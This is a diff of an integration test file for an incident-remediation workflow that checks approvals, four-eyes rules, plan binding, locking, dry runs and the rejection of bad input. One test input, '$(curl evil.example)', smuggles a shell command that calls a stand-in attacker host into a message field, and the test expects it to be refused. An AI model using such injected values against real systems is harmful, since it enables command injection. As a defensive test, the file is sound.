@@ -5,11 +5,23 @@ from __future__ import annotations
 import httpx
 import pytest
 
-from remediation.flowkit.change_log import read_changes
-from remediation.flowkit.resume import answer, wait_for_pause
+from remediation.flowkit.change_log import incident_changes
+from remediation.flowkit.resume import wait_for_pause
+from remediation.target.inventory import load_target
 from sandbox.stack.core import Stack
 from sandbox.stack.info import StackInfo
-from tests.integration.flow_runs import finish, incident, result, start
+from tests.integration.flow_runs import (
+    LEAD,
+    ONCALL,
+    SRE,
+    answer,
+    answer_until_done,
+    confirm_initiator,
+    finish,
+    incident,
+    result,
+    start,
+)
 
 pytestmark = pytest.mark.integration
 CONTAIN, RECOVER = "contain/contain", "recover/recover"
@@ -39,11 +51,15 @@ def _deposit(stack: StackInfo, player: str, ref: str) -> dict[str, object]:
 
 
 def _contain(inc: str, approve: bool = True, **params: object) -> dict[str, object]:
-    run_id = start(CONTAIN, incident_id=inc, initiated_by="alice", dry_run=False, **params)
-    answer(run_id, decision="approve" if approve else "reject", approver="bob", reason="pytest drill")
-    run = finish(run_id)
+    run_id = start(CONTAIN, incident_id=inc, initiated_by=ONCALL, dry_run=False, **params)
+    run = answer_until_done(run_id, decision="approve" if approve else "reject")
     assert run.state is not None
     return {"state": run.state, "run_id": run_id, **result(run)}
+
+
+def read_changes(inc: str) -> list[object]:
+    """The incident's change log outcomes, as recover reads them (the target's database)."""
+    return [e.outcome for e in incident_changes(load_target("sandbox"), inc) if e.outcome is not None]
 
 
 def _approval_records(run_id: object) -> list[dict[str, str]]:
@@ -95,8 +111,8 @@ def test_each_lever_applied_then_recovered_in_reverse(stack: StackInfo, deployme
     assert now["brands"]["beta"] == {"deposit_enabled": False, "withdraw_enabled": False}
     assert now["brands"]["alpha"] == calm["brands"]["alpha"]
 
-    run_id = start(RECOVER, incident_id=inc, initiated_by="alice", dry_run=False)
-    answer(run_id, decision="approve", approver="carol", reason="root cause fixed")
+    run_id = start(RECOVER, incident_id=inc, initiated_by=ONCALL, dry_run=False)
+    answer(run_id, decision="approve", approver=SRE, reason="root cause fixed")
     run = finish(run_id, timeout_s=240)
     out = result(run)
     assert run.state is not None and run.state.is_completed(), (run.state and run.state.message, out)
@@ -108,8 +124,8 @@ def test_each_lever_applied_then_recovered_in_reverse(stack: StackInfo, deployme
     log = read_changes(inc)
     assert [c.outcome for c in log].count("applied") == 4 and [c.outcome for c in log].count("reverted") == 4
     # Recover again: nothing left to undo, still all-clear.
-    again = start(RECOVER, incident_id=inc, initiated_by="alice", dry_run=False)
-    rerun = finish(again)
+    again = start(RECOVER, incident_id=inc, initiated_by=ONCALL, dry_run=False)
+    rerun = answer_until_done(again)
     assert rerun.state is not None and rerun.state.is_completed() and result(rerun)["undone"] == []
 
 
@@ -135,10 +151,13 @@ def test_rejected_or_timed_out_changes_nothing(stack: StackInfo, deployments: li
     assert out["outcome"] == "reject" and "nothing changed" in out["state"].message
     # The decision is on record for the auditor: who, what, why, which plan, when.
     [record] = _approval_records(out["run_id"])
-    assert (record["decision"], record["approver"], record["reason"]) == ("reject", "bob", "pytest drill")
-    assert record["requested_by"] == "alice" and len(record["plan_hash"]) == 64 and record["decided_at"]
-    run = finish(start(CONTAIN, incident_id=incident(), lever="provider-ingress-block", initiated_by="alice",
-                       dry_run=False, approval_timeout_s=5))
+    assert (record["decision"], record["approver"], record["reason"]) == ("reject", LEAD, "pytest drill")
+    assert record["requested_by"] == ONCALL and len(record["plan_hash"]) == 64 and record["decided_at"]
+    assert f"{LEAD} (ssh-signature" in record["signoffs"]
+    timed_out = start(CONTAIN, incident_id=incident(), lever="provider-ingress-block", initiated_by=ONCALL,
+                      dry_run=False, approval_timeout_s=5)
+    confirm_initiator(timed_out)
+    run = finish(timed_out)
     assert run.state is not None and run.state.is_completed()
     assert result(run)["outcome"] == "timeout" and "timeout" in (run.state.message or "")
     assert _levers(stack) == calm
@@ -148,7 +167,8 @@ def test_an_approval_binds_to_its_plan(stack: StackInfo, deployments: list[str],
                                        reset_platform: StackInfo) -> None:
     inc = incident()
     run_id = start(CONTAIN, incident_id=inc, lever="brand-disable", brand_id="gamma",
-                   brand_flags=["deposit_enabled", "withdraw_enabled"], initiated_by="alice", dry_run=False)
+                   brand_flags=["deposit_enabled", "withdraw_enabled"], initiated_by=ONCALL, dry_run=False)
+    confirm_initiator(run_id)
     first = wait_for_pause(run_id)
     from remediation.flowkit.resume import pending_form
 
@@ -157,17 +177,17 @@ def test_an_approval_binds_to_its_plan(stack: StackInfo, deployments: list[str],
     with pytest.raises(Exception):  # noqa: B017 - the client raises its HTTP error type
         from prefect.flow_runs import resume_flow_run
 
-        resume_flow_run(run_id, run_input={"decision": "approve", "approver": "bob", "reason": "x" * 5,
+        resume_flow_run(run_id, run_input={"decision": "approve", "approver": LEAD, "reason": "x" * 5,
                                            "plan_hash": "0" * 64, "confirm_target": "sandbox"})
     # Someone flips gamma's withdraw flag by hand before the approval: plan A no longer holds.
     with _admin(stack) as admin:
         admin.patch("/api/v1/brands/gamma/config/payment_policy", json={"value": {"withdraw_enabled": False}})
-    answer(run_id, decision="approve", approver="bob", reason="approving plan A", plan_hash=plan_a)
+    answer(run_id, decision="approve", approver=LEAD, reason="approving plan A", plan_hash=plan_a)
     second = wait_for_pause(run_id)
     plan_b = pending_form(second)["plan_hash"]
     assert plan_b != plan_a, "the approval for plan A was used for plan B"
     assert _levers(stack)["brands"]["gamma"]["deposit_enabled"] is True, "applied before plan B was approved"
-    answer(run_id, decision="approve", approver="bob", reason="approving plan B")
+    answer(run_id, decision="approve", approver=LEAD, reason="approving plan B")
     run = finish(run_id)
     out = result(run)
     assert run.state is not None and run.state.is_completed(), run.state
@@ -177,25 +197,28 @@ def test_an_approval_binds_to_its_plan(stack: StackInfo, deployments: list[str],
 
 def test_four_eyes_refuses_the_requester(stack: StackInfo, deployments: list[str],
                                          reset_platform: StackInfo) -> None:
-    run_id = start(CONTAIN, incident_id=incident(), lever="platform-freeze", initiated_by="alice", dry_run=False)
-    answer(run_id, decision="approve", approver="alice", reason="self-approval")
+    run_id = start(CONTAIN, incident_id=incident(), lever="platform-freeze", initiated_by=ONCALL, dry_run=False)
+    answer(run_id, decision="approve", approver=ONCALL, reason="self-approval")
     # Refused and asked again: still paused, nothing changed.
     wait_for_pause(run_id)
     assert _levers(stack)["freeze"] is False
-    answer(run_id, decision="reject", approver="bob", reason="not needed")
+    answer(run_id, decision="reject", approver=LEAD, reason="not needed")
     run = finish(run_id)
     assert run.state is not None and result(run)["outcome"] == "reject"
 
 
 def test_two_runs_on_one_lever_never_interleave(stack: StackInfo, deployments: list[str],
                                                 reset_platform: StackInfo) -> None:
-    first = start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by="alice", dry_run=False)
+    first = start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by=ONCALL, dry_run=False)
+    confirm_initiator(first)
     wait_for_pause(first)  # holds the lock while it waits for its approval
-    second = finish(start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by="alice",
-                          dry_run=False, lock_wait_s=3))
+    second_id = start(CONTAIN, incident_id=incident(), lever="deposit-halt", initiated_by=ONCALL,
+                      dry_run=False, lock_wait_s=3)
+    confirm_initiator(second_id)
+    second = finish(second_id)
     assert second.state is not None and second.state.is_failed()
     assert "another run is acting on sandbox" in (second.state.message or "")
-    answer(first, decision="reject", approver="bob", reason="drill over")
+    answer(first, decision="reject", approver=LEAD, reason="drill over")
     done = finish(first)
     assert done.state is not None and done.state.is_completed()
     assert _levers(stack)["deposit_halt"] == "0"
@@ -213,10 +236,10 @@ def test_bad_input_is_refused_before_anything(stack: StackInfo, deployments: lis
         {"lever": "platform-freeze", "message": "$(curl evil.example)"},
     ):
         with pytest.raises(PrefectHTTPStatusError, match="409"):
-            start(CONTAIN, incident_id=incident(), initiated_by="alice", dry_run=False, **bad)
+            start(CONTAIN, incident_id=incident(), initiated_by=ONCALL, dry_run=False, **bad)
     for bad_run in ({"lever": "brand-disable", "brand_id": "nosuchbrand"},
                     {"lever": "deposit-halt", "brand_id": "beta"}):
-        run = finish(start(CONTAIN, incident_id=incident(), initiated_by="alice", dry_run=False, **bad_run))
+        run = finish(start(CONTAIN, incident_id=incident(), initiated_by=ONCALL, dry_run=False, **bad_run))
         assert run.state is not None and run.state.is_failed()
         assert "BadInputError" in (run.state.message or "") or "brand" in (run.state.message or "")
     assert _levers(stack) == calm
@@ -226,7 +249,7 @@ def test_dry_run_reports_exactly_what_the_real_run_changes(stack: StackInfo, dep
                                                            reset_platform: StackInfo) -> None:
     inc = incident()
     params = {"lever": "brand-disable", "brand_id": "alpha", "brand_flags": ["withdraw_enabled"]}
-    dry = finish(start(CONTAIN, incident_id=inc, initiated_by="alice", **params))  # dry_run defaults on
+    dry = finish(start(CONTAIN, incident_id=inc, initiated_by=ONCALL, **params))  # dry_run defaults on
     would = result(dry)["would_change"]
     assert _levers(stack)["brands"]["alpha"]["withdraw_enabled"] is True, "the dry run changed something"
     real = _contain(inc, **params)
